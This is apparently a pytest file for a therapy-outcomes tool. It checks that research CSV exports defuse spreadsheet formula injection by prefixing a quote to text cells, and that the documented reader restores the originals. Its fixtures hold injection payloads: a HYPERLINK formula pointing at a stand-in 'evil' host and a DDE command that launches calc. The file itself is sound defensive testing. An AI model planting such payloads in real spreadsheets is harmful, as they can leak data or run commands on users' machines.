"""CSV injection: a text cell of a research export that a spreadsheet would run as a formula is written with
one ``'`` before it, decided by the column's declared type (numbers stay numbers), and the docs' rule for
reading the files back gives every original value; Parquet and de-identified output are left as they were."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from alliancekit.cli.main import main
from alliancekit.exports import research
from alliancekit.exports.research import DICTIONARY, TABLES, parquet_available, pseudonym

ROOT = Path(__file__).resolve().parents[2]
GUIDE = ROOT / "docs" / "guides" / "research-exports.md"
KEY = b"k" * 32
#: OWASP's formula starts, and the quote itself (so the mark can be told from a value's own quote)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "'")
#: client references and clinician ids the import accepts (printable) that a spreadsheet would run
CLIENTS = ('=HYPERLINK("http://evil/"&A1;"x")', "+cmd|' /C calc'!A0", "'quoted", "plain-1")
CLINICIANS = ("@SUM(1+1)", "-2+3", "=1+1", "dr-ok")


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def read_table_from_the_guide() -> Callable[[Path, str], list[dict[str, str]]]:
    """The reader the export guide states, run as it stands: the round-trip rule is the documented one."""
    text = GUIDE.read_text(encoding="utf-8")
    block = next(b for b in re.findall(r"```python\n(.*?)```", text, re.S) if "def read_table" in b)
    namespace: dict[str, Any] = {}
    exec(compile(block, str(GUIDE), "exec"), namespace)  # noqa: S102 (the guide's own example)
    return namespace["read_table"]  # type: ignore[no-any-return]


def text_columns(table: str) -> list[str]:
    return [c.name for c in DICTIONARY if c.file == table and c.type == "string"]


def sample_row(table: str, first: str) -> dict[str, Any]:
    """Every text column starts with ``first``; every number is negative."""
    values = {
        "string": f"{first}x{table}",
        "integer": -3,
        "number": -2.5,
        "boolean": True,
        "date": "2024-01-11",
    }
    return {c.name: values[c.type] for c in DICTIONARY if c.file == table}


@pytest.mark.parametrize("first", DANGEROUS)
def test_every_text_column_of_every_table_is_neutralised_and_numbers_stay_numbers(
    tmp_path: Path, first: str
) -> None:
    sink = research._CsvSink(tmp_path)
    for table in TABLES:
        sink.write(table, [sample_row(table, first), sample_row(table, "a")])
    sink.close()
    for table in TABLES:
        dangerous, safe = rows(tmp_path / f"{table}.csv")
        for column in text_columns(table):
            assert dangerous[column] == f"'{first}x{table}", (table, column)
            assert safe[column] == f"ax{table}", (table, column)  # one character on: left as it is
        for c in (c for c in DICTIONARY if c.file == table and c.type != "string"):
            assert dangerous[c.name] == {"integer": "-3", "number": "-2.5", "boolean": "true"}.get(
                c.type, "2024-01-11"
            ), (table, c.name)
    # the guide's rule gives every value back, numbers and all, for every table
    research._write_dictionary(tmp_path)
    for table in TABLES:
        back = read_table_from_the_guide()(tmp_path, table)
        expected = [sample_row(table, first), sample_row(table, "a")]
        assert [{k: str(v) for k, v in r.items() if k in text_columns(table)} for r in expected] == [
            {k: v for k, v in r.items() if k in text_columns(table)} for r in back
        ]
        assert [
            float(r[c.name])
            for r in back
            for c in DICTIONARY
            if c.file == table and c.type in ("integer", "number")
        ] == [
            float(r[c.name])
            for r in expected
            for c in DICTIONARY
            if c.file == table and c.type in ("integer", "number")
        ]
    assert all(text_columns(table) for table in TABLES)


def test_a_value_that_only_contains_a_formula_character_is_left_as_it_is(tmp_path: Path) -> None:
    sink = research._CsvSink(tmp_path)
    sink.write("episodes", [{**sample_row("episodes", "a"), "client": "a=1+@2-'3"}])
    sink.close()
    assert rows(tmp_path / "episodes.csv")[0]["client"] == "a=1+@2-'3"


@pytest.fixture
def imported(tmp_path: Path) -> Path:
    """A practice imported from a real CSV file whose references a spreadsheet would run."""
    source = tmp_path / "f1.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            [
                "Client ID",
                "Episode",
                "Session Date",
                "Clinician",
                "Format",
                "Attended",
                "ORS Total",
                "SRS Total",
            ]
        )
        for client, clinician in zip(CLIENTS, CLINICIANS, strict=True):
            writer.writerow([client, "1", "11/01/2024", clinician, "Video", "Yes", "15.6", "37.6"])
    db = tmp_path / "p.sqlite"
    mapping = ROOT / "examples" / "imports" / "openfit-style.toml"
    assert main(["import", "csv", "--db", str(db), "--create", "--mapping", str(mapping), str(source)]) == 0
    return db


def export(db: Path, out: Path, *options: str) -> None:
    assert main(["export", "csv", "--db", str(db), "--out", str(out), *options]) == 0


def test_the_identified_export_neutralises_references_and_the_guide_reads_them_back(
    imported: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export(imported, out, "--identified")
    pairs = set(zip(CLIENTS, CLINICIANS, strict=True))
    for table in ("administrations", "episodes"):
        written = rows(out / f"{table}.csv")
        assert {(r["client"], r["clinician"]) for r in written} == {
            ("'" + a if a[0] in DANGEROUS else a, "'" + b if b[0] in DANGEROUS else b) for a, b in pairs
        }
        assert all(float(r["total" if table == "administrations" else "first_total"]) > 0 for r in written)
        back = read_table_from_the_guide()(out, table)
        assert {(r["client"], r["clinician"]) for r in back} == pairs
        other = [c.name for c in DICTIONARY if c.file == table and c.name not in ("client", "clinician")]
        assert [[r[c] for c in other] for r in back] == [[r[c] for c in other] for r in written]
    dictionary = rows(out / "data-dictionary.csv")
    assert [(r["file"], r["column"], r["csv_escaped"]) for r in dictionary] == [
        (c.file, c.name, "true" if c.type == "string" else "false") for c in DICTIONARY
    ]
    # the dictionary's own cells are alliancekit's fixed text: none needs the mark
    assert not [v for r in dictionary for v in r.values() if v.startswith(DANGEROUS)]


def test_stdout_gets_the_same_cells_as_the_file(
    imported: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert (
        main(["export", "csv", "--db", str(imported), "--out", "-", "--identified", "--table", "episodes"])
        == 0
    )
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["client"] for r in table} == {"'" + c if c[0] in DANGEROUS else c for c in CLIENTS}


def test_de_identified_output_is_unchanged(imported: Path, tmp_path: Path) -> None:
    key_file = tmp_path / "key"
    key_file.write_bytes(KEY)
    key_file.chmod(0o600)
    export(imported, tmp_path / "out", "--key-file", str(key_file))
    for table in ("administrations", "episodes"):
        written = rows(tmp_path / "out" / f"{table}.csv")
        # pseudonyms of the values as imported (not of the marked ones), hex: nothing is marked
        assert {r["client"] for r in written} == {pseudonym(KEY, "client", c) for c in CLIENTS}
        assert {r["clinician"] for r in written} == {pseudonym(KEY, "clinician", c) for c in CLINICIANS}
        assert not [v for r in written for v in r.values() if v.startswith(DANGEROUS)]


def test_parquet_keeps_the_values_as_they_are(imported: Path, tmp_path: Path) -> None:
    if not parquet_available():
        pytest.skip("pyarrow is not installed: pip install 'alliancekit[parquet]' to test the Parquet export")
    import pyarrow.parquet as pq

    export(imported, tmp_path / "pq", "--identified", "--format", "parquet")
    for table in ("administrations", "episodes"):
        written = pq.read_table(tmp_path / "pq" / f"{table}.parquet").to_pylist()
        assert {r["client"] for r in written} == set(CLIENTS)
        assert {r["clinician"] for r in written} == set(CLINICIANS)
